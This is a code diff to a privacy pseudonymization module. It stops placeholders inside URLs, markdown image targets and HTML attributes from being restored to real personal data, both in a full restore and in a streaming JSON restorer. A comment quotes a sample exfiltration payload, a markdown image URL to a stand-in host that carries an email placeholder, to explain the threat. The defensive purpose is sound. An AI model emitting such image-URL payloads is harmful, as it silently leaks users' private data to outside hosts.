@@ -25,6 +25,39 @@ from tether.privacy.detect import Span
 PLACEHOLDER_SHAPE = re.compile(r"<[A-Z][A-Z0-9_]*_\d+>")
 _ZERO_WIDTH = re.compile("[\u200b\u200c\u200d\u2060\ufeff\u00ad]")
 LITERAL = "LITERAL"
+# Where nothing is restored: a URL (scheme://… or //host.…) up to whitespace, and a markdown link or
+# image target "](…)". A markdown client fetches an image by itself, so a provider answering
+# ![x](http://host/p.gif?d=<EMAIL_ADDRESS_1>) would otherwise receive the address.
+_URL_OPEN = r"(?i:[a-z][a-z0-9+.\-]{0,31}://|\]\(|(?<![\w:/])//(?=[a-z0-9\-]+\.))"
+# A markdown target in <…> and a quoted HTML src or href may hold spaces.
+_MD_ANGLE = r"\]\([ \t]*<"
+_ATTR = r"(?i:\b(?:src|href|srcset|poster|action)[ \t]*=[ \t]*)"
+_URL = re.compile(rf"""{_MD_ANGLE}[^>\n]*|{_ATTR}(?:"[^"]*|'[^']*)|{_URL_OPEN}\S*""")
+# In JSON text a string's closing quote or an escaped line break or tab ends it too (as whitespace
+# ends it in the decoded string), so a streamed JSON answer restores what its decoded values would.
+_URL_IN_JSON = re.compile(rf"""{_MD_ANGLE}[^>\n"]*|{_ATTR}(?:\\"(?:[^"\\]|\\[^"])*|'[^'"]*)"""
+                          rf"""|{_URL_OPEN}(?:[^\s"\\]|\\[^nrt])*""")
+_OPENER = re.compile(rf"""{_MD_ANGLE}|{_ATTR}(?:\\?"|')|{_URL_OPEN}""")
+
+
+def _url_spans(text: str, json_text: bool = False) -> list[tuple[int, int]]:
+    return [m.span() for m in (_URL_IN_JSON if json_text else _URL).finditer(text)]
+
+
+def _url_context(text: str, json_text: bool) -> str:
+    """A short text that scans like ``text`` for whatever follows it: inside a URL or not."""
+    spans = _url_spans(text, json_text)
+    if not spans or spans[-1][1] < len(text) - (json_text and text.endswith("\\")):  # not inside one
+        return text[-40:]
+    start = spans[-1][0]
+    if len(text) - start <= 128:
+        return text[start:]
+    opener = _OPENER.match(text, start)
+    head = opener.end() if opener else start
+    tail = max(head, len(text) - 64)
+    while json_text and tail < len(text) and text[tail - 1] == "\\":  # not between an escape's halves
+        tail += 1
+    return text[start:head] + text[tail:]
 Style = Literal["placeholder", "fake"]
 _MAX_TRIES = 25
 
@@ -172,9 +205,15 @@ class PseudonymSession:
         return rx
 
     def restore(self, text: str) -> str:
-        """Put the originals back, in one pass (a restored value is never restored again)."""
+        """Put the originals back, in one pass (a restored value is never restored again), except
+        inside a URL: a provider chooses those, and a client may fetch them unasked."""
         rx = self._pattern()
-        return rx.sub(lambda m: self._reverse[m.group()], text) if rx is not None else text
+        if rx is None:
+            return text
+        urls = _url_spans(text)
+        if not urls:
+            return rx.sub(lambda m: self._reverse[m.group()], text)
+        return rx.sub(lambda m: m.group() if _inside(m.start(), urls) else self._reverse[m.group()], text)
 
     def restorer(self, escape: Callable[[str], str] | None = None) -> StreamRestorer:
         """A stream restorer; ``escape`` rewrites each original as it goes back in (for JSON text:
@@ -197,6 +236,10 @@ class PseudonymSession:
         return 0
 
 
+def _inside(pos: int, spans: Sequence[tuple[int, int]]) -> bool:
+    return any(a <= pos < b for a, b in spans)
+
+
 def json_string_escape(value: str) -> str:
     """``value`` as it must appear inside a JSON string (quotes, backslashes, line breaks escaped)."""
     return json.dumps(value, ensure_ascii=False)[1:-1]
@@ -207,14 +250,17 @@ class StreamRestorer:
 
     ``feed`` returns the text that is safe to show now; the tail that might be the
     start of a placeholder waits for the next chunk, and ``flush`` returns the rest.
-    Joining every output equals ``session.restore(full_text)``.
+    Joining every output equals ``session.restore(full_text)``. With ``json_string_escape`` the
+    stream is read as JSON text, where a string's closing quote also ends a URL.
     """
 
     def __init__(self, session: PseudonymSession, escape: Callable[[str], str] | None = None):
         self._session = session
         self._escape = escape or (lambda value: value)
+        self._json = escape is json_string_escape
         self._pending = ""
         self._before = ""  # last emitted character, for the word-boundary check on fakes
+        self._url_ctx = ""  # the emitted text's tail, enough to tell whether a URL is open
 
     def feed(self, chunk: str) -> str:
         buf = self._pending + chunk
@@ -230,11 +276,15 @@ class StreamRestorer:
         out, pos = [], 0
         if rx is not None:
             ctx = self._before
+            uctx = self._url_ctx
+            urls = [(a - len(uctx), b - len(uctx)) for a, b in _url_spans(uctx + buf, self._json)]
             for m in rx.finditer(ctx + buf, len(ctx)):
                 start, end = m.start() - len(ctx), m.end() - len(ctx)
                 if end > cut:
                     cut = min(cut, start) if start < cut else cut
                     break
+                if _inside(start, urls):
+                    continue
                 out.append(buf[pos:start])
                 out.append(self._escape(self._session._reverse[m.group()]))
                 pos = end
@@ -242,4 +292,5 @@ class StreamRestorer:
         self._pending = buf[cut:]
         if cut > 0:
             self._before = buf[cut - 1]
+            self._url_ctx = _url_context(self._url_ctx + buf[:cut], self._json)
         return "".join(out)
